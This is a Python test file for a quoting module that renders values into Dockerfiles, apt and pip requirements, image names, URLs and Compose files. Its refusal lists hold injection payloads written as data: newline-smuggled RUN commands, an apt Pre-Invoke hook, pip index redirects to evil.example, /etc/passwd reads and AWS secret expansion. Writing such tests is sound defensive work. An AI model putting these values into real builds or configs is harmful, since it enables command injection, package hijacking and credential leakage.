"""Each quoting refuses a value, or lets it arrive as the same bytes where it lands."""

from __future__ import annotations

import json
import re
import sys
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement

from envkit.render import quote
from envkit.render.quote import UnsafeValueError

if TYPE_CHECKING:
    from collections.abc import Callable

if sys.version_info >= (3, 11):
    import tomllib

BREAKING = ["a\nRUN touch /pwned", "a\r\nb", "a\0b", "a\x1b[31mb", "a\u2028b", "a\u2029b", "a\x85b", "a\u202eb"]
SHOWN = st.text(st.characters(exclude_categories=("Cc", "Cs", "Cf", "Zl", "Zp")), max_size=60)
ANY = st.text(max_size=60)

REFUSED: list[tuple[Callable[[str], str], str]] = [
    # apt: options, removals, files, shells
    (quote.package, "-oAPT::Update::Pre-Invoke::=touch /pwned"),
    (quote.package, "bash-"),
    (quote.package, "./x.deb"),
    (quote.package, "/x.deb"),
    (quote.package, "git curl"),
    (quote.package, "git;id"),
    (quote.package, "git\n"),
    (quote.package, "Git"),
    (quote.package, "g"),
    (quote.package, "naïve"),
    (quote.package, "git="),
    (quote.package, "git/bullseye"),
    (quote.package, "git*"),
    (quote.package, ""),
    # pip and uv: options, addresses, files, second lines, variables
    (quote.requirement, "--index-url=https://evil.example/"),
    (quote.requirement, "-r /etc/passwd"),
    (quote.requirement, "-e ."),
    (quote.requirement, "x @ http://evil.example/x.tgz"),
    (quote.requirement, "x@file:///etc/passwd"),
    (quote.requirement, "git+https://evil.example/x"),
    (quote.requirement, "https://evil.example/x.whl"),
    (quote.requirement, "./x"),
    (quote.requirement, "six\n--index-url https://evil.example/"),
    (quote.requirement, "six; touch /pwned"),
    (quote.requirement, "six # a comment"),
    (quote.requirement, "six===${AWS_SECRET_ACCESS_KEY}"),
    (quote.requirement, "six===1\\"),
    (quote.requirement, "six --hash=sha256:0"),
    (quote.requirement, "ﬁle"),
    (quote.requirement, ""),
    # images
    (quote.image, "debian:bookworm AS x"),
    (quote.image, "--platform=x debian"),
    (quote.image, "$BASE"),
    (quote.image, "debian\nRUN id"),
    (quote.image, "Debian"),
    (quote.image, ""),
    # addresses
    (quote.url, "https://user:password@example.org/simple"),
    (quote.url, "file:///etc/passwd"),
    (quote.url, "http://example.org/a b"),
    (quote.url, "http://example.org/\nindex-url = x"),
    (quote.url, "http://example.org/?a=b"),
    (quote.url, "http://example.org/#x"),
    (quote.url, "http://example.org/${HOME}"),
    (quote.url, "-o x"),
    (quote.url, ""),
    # words of config files
    (quote.word, "no\nPermitRootLogin yes"),
    (quote.word, "a b"),
    (quote.word, "$x"),
    (quote.word, "--option"),
    (quote.word, "*"),
    (quote.word, '"'),
    (quote.word, "#"),
    (quote.word, ""),
]  # fmt: skip


@pytest.mark.parametrize(("quoted", "value"), REFUSED)
def test_a_value_that_would_leave_its_place_is_refused(quoted: Callable[[str], str], value: str) -> None:
    with pytest.raises(UnsafeValueError):
        quoted(value)


@pytest.mark.parametrize(("quoted", "value"), [
    (quote.package, "g++"),
    (quote.package, "libstdc++6"),
    (quote.package, "graphviz=2.42.2-7+deb12u1"),
    (quote.package, "libfoo=1:2.0~rc1-3"),
    (quote.requirement, "pandas==1.4.*"),
    (quote.requirement, "numpy >=1.20, <1.24"),
    (quote.requirement, "uvicorn[standard]~=0.30"),
    (quote.requirement, "tomli>=2; python_version < '3.11'"),
    (quote.requirement, 'colorama; sys_platform == "win32"'),
    (quote.requirement, "torch===2.0.0+cu118"),
    (quote.image, "debian:bookworm-slim"),
    (quote.image, "registry.example:5000/team/base@sha256:" + "0" * 64),
    (quote.image, "sha256:" + "0" * 64),
    (quote.url, "https://index.example:8443/simple/"),
    (quote.url, "http://mirror.example/debian"),
    (quote.word, "sntrup761x25519-sha512@openssh.com,curve25519-sha256"),
    (quote.word, "/a/b:/c"),
])  # fmt: skip
def test_what_is_in_use_passes_unchanged(quoted: Callable[[str], str], value: str) -> None:
    assert quoted(value) == value


@given(st.from_regex(quote._PLAIN_REQUIREMENT, fullmatch=True))
def test_what_passes_as_a_plain_requirement_is_read_as_one(value: str) -> None:
    known = Requirement(value)
    assert (known.url, known.marker, known.extras) == (None, None, set())
    assert value.startswith(known.name)


def test_a_plain_requirement_needs_no_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "packaging.requirements", None)
    assert quote.requirement("numpy>=1.20,<1.24") == "numpy>=1.20,<1.24"
    assert quote.requirement("tensorflow-cpu==2.9.0") == "tensorflow-cpu==2.9.0"
    with pytest.raises(ImportError):
        quote.requirement("six~=1.0")


@pytest.mark.parametrize("quoted", [quote.line, quote.toml, quote.word, quote.package, quote.requirement, quote.url])
def test_no_value_ends_its_line_or_hides(quoted: Callable[[str], str]) -> None:
    for value in BREAKING:
        with pytest.raises(UnsafeValueError):
            quoted(value)


@pytest.mark.parametrize("value", BREAKING)
def test_no_word_of_a_command_and_no_setting_ends_its_line(value: str) -> None:
    with pytest.raises(UnsafeValueError):
        quote.argv([value])
    with pytest.raises(UnsafeValueError):
        quote.settings({"NAME": value})


@pytest.mark.parametrize("name", ["", "A B", "A=B", "1A", "A\nRUN id", "Ä"])
def test_a_setting_has_a_plain_name(name: str) -> None:
    with pytest.raises(UnsafeValueError):
        quote.settings({name: "x"})
    with pytest.raises(UnsafeValueError):
        quote.words({name: "x"})


@given(st.lists(SHOWN, min_size=1, max_size=4))
def test_a_command_arrives_word_for_word(words: list[str]) -> None:
    assert json.loads(quote.argv(words)) == words


@given(SHOWN)
def test_a_setting_arrives_as_docker_reads_it(value: str) -> None:
    assert read_env(quote.settings({"NAME": value})) == value


@given(SHOWN)
@pytest.mark.skipif(sys.version_info < (3, 11), reason="tomllib came with Python 3.11")
def test_a_toml_string_arrives(value: str) -> None:
    assert tomllib.loads(f"x = {quote.toml(value)}") == {"x": value}


@given(ANY)
def test_any_text_is_refused_or_unchanged(value: str) -> None:
    for quoted in (quote.line, quote.word, quote.image, quote.package, quote.requirement, quote.url):
        try:
            assert quoted(value) == value
        except UnsafeValueError:
            continue
        assert "\n" not in value


@pytest.mark.parametrize("value", [
    "${AWS_SECRET_ACCESS_KEY}", "pa$word", "x${", "$$", "yes", "22:22", "1.10", "null", "*a", "a: b", "a #b",
    "2001-01-01", "~", "- a", "'", '"', "a\nb",
])  # fmt: skip
def test_compose_reads_each_text_as_itself(value: str) -> None:
    tree = {"environment": {"A": value}, "command": [value], "size": 3, "tty": False}
    assert undoubled(yaml.safe_load(quote.compose(tree))) == tree


def test_a_value_too_long_for_any_name_is_refused() -> None:
    with pytest.raises(UnsafeValueError):
        quote.line("a" * (quote.LINE_LENGTH_MAX + 1))


def read_env(pair: str) -> str:
    """Read `NAME="value"` as Docker does: a backslash takes the next character, a bare dollar would expand."""
    body = re.fullmatch(r'NAME="((?:[^\\"$]|\\.)*)"', pair)
    assert body, f"{pair!r} is not one quoted value without variables"
    return re.sub(r"\\(.)", r"\1", body[1])


def undoubled(value: Any) -> Any:
    """Read as Compose does: `$$` is a dollar, a single one would be a variable of the host."""
    if isinstance(value, str):
        assert "$" not in value.replace("$$", "")
        return value.replace("$$", "$")
    if isinstance(value, dict):
        return {key: undoubled(one) for key, one in value.items()}
    return [undoubled(one) for one in value] if isinstance(value, list) else value
